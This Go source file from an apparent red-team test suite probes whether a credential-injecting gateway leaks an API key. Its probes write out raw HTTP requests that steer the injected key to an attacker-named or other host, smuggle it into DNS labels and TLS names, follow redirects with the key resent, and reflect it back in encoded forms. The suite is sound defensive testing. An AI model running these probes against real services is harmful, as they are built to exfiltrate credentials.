@@ -1,0 +1,203 @@
+package redteam
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/custody-project/custody/audit"
+	"github.com/custody-project/custody/redteam/world"
+)
+
+// steering are the probes that would have the gateway put a credential into what somebody else gets.
+func (c *catalogue) steering() {
+	add := func(id, title string, bypass Bypass, t *task) {
+		if t.Timeout = 3; id != "second-request" && t.TLS.ALPN[0] != "h2" {
+			t.Enough = "\r\n\r\n"
+		}
+		c.secretive(Probe{ID: "steer/" + id, Title: title, Bypass: bypass, step: "steer", task: t, binds: []secret{apiKey}, proof: deniedOrEnded})
+	}
+	other := "other." + world.Wild
+	for _, h := range []struct {
+		id, title string
+		bypass    Bypass
+		text      string
+	}{
+		{"host", "another Host, which a rule allows, where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
+		{"host-attacker", "the attacker's Host where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {T}." + world.Attacker + "\r\n\r\n"},
+		{"host-two", "two Hosts where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
+		{"host-port", "another port in Host where a credential is put in", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {H}:8443\r\n\r\n"},
+		{"crlf-before", "an empty line before a request to another Host where a credential is put in", LeadingCRLF, "\r\n\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
+		{"crlf-in-target", "a bare CR before another Host where a credential is put in", LeadingCRLF, "GET /v1/{T} HTTP/1.1\rHost: {O}\r\nHost: {H}\r\n\r\n"},
+		{"absolute", "another host in the request's target where a credential is put in", Fronting, "GET https://{O}/v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"second-request", "a request that gets the credential, and on the same connection one to another Host", Steering,
+			"GET /v1/first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
+		{"connect", "CONNECT where a credential is put in", Fronting, "CONNECT {O}:443 HTTP/1.1\r\nHost: {O}:443\r\n\r\n"},
+	} {
+		add(h.id, h.title, h.bypass, tlsTo(world.API, c.fill(h.text, world.API, other)))
+	}
+	for _, h := range []struct {
+		id, title string
+		bypass    Bypass
+		fields    []string
+	}{
+		{"h2-authority", "another :authority where a credential is put in", Fronting, []string{":authority", other}},
+		{"h2-host", "another host beside :authority where a credential is put in", Steering, []string{":authority", world.API, "host", other}},
+	} {
+		t := tlsTo(world.API, "")
+		t.TLS.ALPN = []string{"h2"}
+		fields := append([]string{":method", "GET", ":scheme", "https", ":path", "/v1/" + c.token()}, h.fields...)
+		t.Send = []piece{{Data: h2(fields...)}}
+		add(h.id, h.title, h.bypass, t)
+	}
+	t := tlsTo("public-"+c.token()+"."+world.Rebind, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", world.API, other))
+	t.TLS.SNI = world.API
+	add("address", "the credential's name in TLS and Host, at the address of another", Fronting, t)
+	c.last().allowed = asks
+	t = tlsTo(world.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", world.API, other))
+	t.TLS.SNI = other
+	add("sni", "another name in TLS, at the address of the credential's", Fronting, t)
+	clear := &task{Do: "talk", Name: world.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", world.API, other))}
+	c.secretive(Probe{ID: "steer/clear", step: "steer", Title: "a request in the clear to the credential's host: nothing is put in", Bypass: Steering, allowed: reaches, task: clear, binds: []secret{apiKey},
+		proof: allowedFlow, outer: notInTheClear})
+	c.secretive(Probe{ID: "steer/redirect", Title: "a redirect of the credential's host to another one, with a client that sends the header again", Bypass: Steering, allowed: reaches,
+		binds: []secret{apiKey}, proof: flagged("placeholder-to-other-host"),
+		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+world.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
+	c.secretive(Probe{ID: "steer/redirect-clear", step: "steer", Title: "a redirect of the credential's host to itself in the clear", Bypass: Steering, allowed: reaches,
+		binds: []secret{apiKey}, outer: notInTheClear, proof: denied,
+		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+world.API+"/v1/redirect?to=http://"+world.API+"/v1/"+c.token()+"'")})
+}
+
+// notInTheClear finds fault with a value that its own host was told, but without TLS.
+func notInTheClear(t *trial, p Probe, said report) string {
+	for _, r := range t.world.Requests() {
+		if r.SNI == "" && shown([]byte(fmt.Sprint(r.URI, r.Header, r.Body)), t.values[apiKey.name]) != "" {
+			return "the credential was seen in the clear"
+		}
+	}
+	return spilled(t, p, report{})
+}
+
+// secondAuth are the probes of a credential of the guest's own, beside the gateway's or in its place: with
+// one, an allowed host is a way out.
+func (c *catalogue) secondAuth() {
+	for _, h := range []struct{ id, title, text string }{
+		{"authorization", "a second header that authenticates", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer own-key-of-{T}\r\n\r\n"},
+		{"same", "a key of the guest's own in the credential's header", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: own-key-of-{T}\r\n\r\n"},
+		{"same-twice", "the placeholder, and in the same header a key of the guest's own", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\nX-Api-Key: own-key-of-{T}\r\n\r\n"},
+		{"same-list", "the placeholder and a key of the guest's own in one header", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: own-key-of-{T}, {{API_KEY|raw}}\r\n\r\n"},
+		{"underscore", "the same header with underscores", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX_Api_Key: own-key-of-{T}\r\n\r\n"},
+		{"query", "a key of the guest's own in the query", "GET /v1/{T}?key=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"query-escaped", "the same, its name escaped", "GET /v1/{T}?%6bey=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"query-semicolon", "the same behind a semicolon", "GET /v1/{T}?a=b;access_token=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"proxy", "a header for proxies that authenticates", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Forwarded-Authorization: own-key-of-{T}\r\n\r\n"},
+	} {
+		t := refusedTo(world.API, c.fill(h.text, world.API, ""))
+		c.secretive(Probe{ID: "second/" + h.id, Title: h.title, Bypass: SecondAuth, step: "second", task: t, binds: []secret{apiKey}, proof: denied})
+	}
+	c.secretive(Probe{ID: "second/cookie", step: "second", Title: "a session of the guest's own in a cookie: it is left out", Bypass: SecondAuth, allowed: reaches, binds: []secret{apiKey}, proof: allowedFlow,
+		task: tlsTo(world.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nCookie: session=own-key-of-{T}\r\nConnection: close\r\n\r\n", world.API, "")),
+		outer: func(t *trial, p Probe, _ report) string {
+			for _, r := range t.world.Requests() {
+				if strings.Contains(fmt.Sprint(r.Header), "own-key-of-"+p.token) {
+					return "the host got it"
+				}
+			}
+			return ""
+		}})
+}
+
+// placeholders are the probes of what stands for a credential in the step.
+func (c *catalogue) placeholders() {
+	other := "other." + world.Wild
+	add := func(id, title string, allowed reach, t *task, proof evidence) {
+		t.Enough = "\r\n\r\n"
+		c.secretive(Probe{ID: "holder/" + id, Title: title, Bypass: Elsewhere, allowed: allowed, task: t, binds: []secret{apiKey}, proof: proof})
+	}
+	astray := flagged("placeholder-to-other-host")
+	for _, h := range []struct{ id, title, text string }{
+		{"header", "in its header", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n"},
+		{"bearer", "as a bearer token", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {{API_KEY|raw}}\r\n\r\n"},
+		{"basic", "within Basic", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {{API_KEY|user}}\r\n\r\n"},
+		{"path", "in a path, every byte escaped", "GET /{T}/{{API_KEY|urlall}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"body", "in a body of chunks of 5 bytes", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{API_KEY|chunks}}"},
+	} {
+		add(h.id, "a placeholder to another host whose rule has http: "+h.title, nothing, tlsTo(other, c.fill(h.text, other, "")), astray)
+	}
+	c.secretive(Probe{ID: "holder/unread", step: "holder", Title: "a placeholder to another host whose TLS is not opened: the value does not come in its place", Bypass: Elsewhere, allowed: reaches,
+		task:  tlsTo(world.Allowed, c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n", world.Allowed, "")),
+		binds: []secret{apiKey}, proof: flowTo(world.Allowed), outer: onlyPlaceholder})
+	add("clear", "a placeholder to another host in the clear on port 80", nothing,
+		&task{Do: "talk", Name: world.Plain, Port: 80, Send: once(c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", world.Plain, ""))}, astray)
+	add("clear-own", "a placeholder to its own host in the clear on port 80", nothing,
+		&task{Do: "talk", Name: world.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", world.API, ""))}, denied)
+	add("sni", "a placeholder in a TLS name, in hex", asks, sniTask("public-"+c.token()+"."+world.Rebind, "{{API_KEY|labels16}}."+world.Rebind), astray)
+	add("dns", "a placeholder in the labels of a name, in base32", nothing, &task{Do: "talk", Name: "{{API_KEY|labels32}}." + world.Wild, Port: 443,
+		TLS: &tlsTask{SNI: "{{API_KEY|labels32}}." + world.Wild}, Send: once("x")}, astray)
+	c.secretive(Probe{ID: "holder/own-body", step: "holder", Title: "a placeholder in a body to its own host: the value does not come in its place", Bypass: Reflection, allowed: reaches, binds: []secret{apiKey},
+		task: tlsTo(world.API, c.fill("POST /v1/{T} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{API_KEY|length}}\r\nConnection: close\r\n\r\n{{API_KEY|raw}}", world.API, "")), proof: allowedFlow,
+		outer: func(t *trial, p Probe, _ report) string {
+			for _, r := range t.world.Requests() {
+				if strings.Contains(r.URI, p.token) && shown([]byte(r.Body+r.URI), t.values[apiKey.name]) != "" {
+					return "the host got the value in its body"
+				}
+			}
+			return spilled(t, p, report{})
+		}})
+}
+
+// onlyPlaceholder finds fault with the value, not with what stands for it.
+func onlyPlaceholder(t *trial, p Probe, _ report) string { return spilled(t, p, report{}) }
+
+// refusedTo is a task that ends with the first answer: it is a refusal, or the host's own servers tell of it.
+func refusedTo(name, text string) *task {
+	t := tlsTo(name, text)
+	t.Enough = "\r\n\r\n"
+	return t
+}
+
+func sniTask(at, sni string) *task {
+	t := tlsTo(at, "x")
+	t.TLS.SNI = sni
+	return t
+}
+
+// reflections are the probes of answers in which the host gives back what it was sent. The control
+// beside them has the value come back where the rule says that answers are not masked.
+func (c *catalogue) reflections() {
+	for _, h := range []struct {
+		as, title string
+		bypass    Bypass
+	}{
+		{"raw", "as it is", Reflection}, {"base64", "in base64", Reflection}, {"hex", "in hex", Reflection}, {"utf16", "in UTF-16", Reflection},
+		{"gzip", "compressed with gzip, unasked", Reflection}, {"deflate", "compressed with deflate, unasked", Reflection},
+		{"chunks", "in chunks of one byte", SplitWrites}, {"pauses", "in three parts with pauses", SplitWrites},
+		{"header", "in a header and a cookie", Reflection}, {"trailer", "in a trailer", Reflection}, {"error", "in an error page", Reflection},
+		{"unknown", "in a coding that the gateway does not know, and it is a lie", MaskOpen}, {"no-gzip", "in what is said to be gzip and is not", MaskOpen},
+		{"gzip-twice", "compressed twice", MaskOpen}, {"gzip-broken", "in gzip that breaks off", MaskOpen}, {"part", "in a part of an answer", MaskOpen},
+		{"cut", "in an answer that breaks off: data and an error at once", MaskOpen},
+	} {
+		add := func(id, how string, t *task) {
+			c.secretive(Probe{ID: "reflect/" + id, step: "reflect", Title: "an answer gives a credential back " + h.title + how, Bypass: h.bypass, allowed: reaches, task: t, binds: []secret{apiKey},
+				proof: answered, outer: masked})
+		}
+		path := "/v1/reflect?as=" + h.as + "&"
+		add(h.as, "", tlsTo(world.API, "GET "+path+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nAccept-Encoding: gzip, br\r\nConnection: close\r\n\r\n"))
+	}
+	c.secretive(Probe{ID: "reflect/h2", step: "reflect", Title: "an answer gives a credential back in HTTP/2, compressed as the client asks", Bypass: Reflection, allowed: reaches, binds: []secret{apiKey}, proof: answered, outer: masked,
+		task: program("curl", "-sS", "--http2", "--compressed", "-m", "15", "https://"+world.API+"/v1/reflect?as=gzip&"+c.token())})
+	c.secretive(Probe{ID: "reflect/range", step: "reflect", Title: "an answer gives a credential back in ranges that the client asks for", Bypass: MaskOpen, allowed: reaches, binds: []secret{apiKey}, proof: answered, outer: masked,
+		task: tlsTo(world.API, "GET /v1/reflect?as=raw&"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nRange: bytes=9-30\r\nConnection: close\r\n\r\n")})
+}
+
+// answered: the record has the request with its credential.
+func answered(b *about, r *audit.Record) bool {
+	return r.HTTP != nil && r.HTTP.Credential == apiKey.name && b.hasToken(string(r.HTTP.Path))
+}
+
+// masked finds fault with an answer that has the value, and with a probe that proves nothing: the host did not get it.
+func masked(t *trial, p Probe, said report) string {
+	if form := shown(said.Answer, t.values[apiKey.name]); form != "" {
+		return "the sandbox got the value, in the form " + form
+	}
+	return arrives(apiKey)(t, p, said)
+}
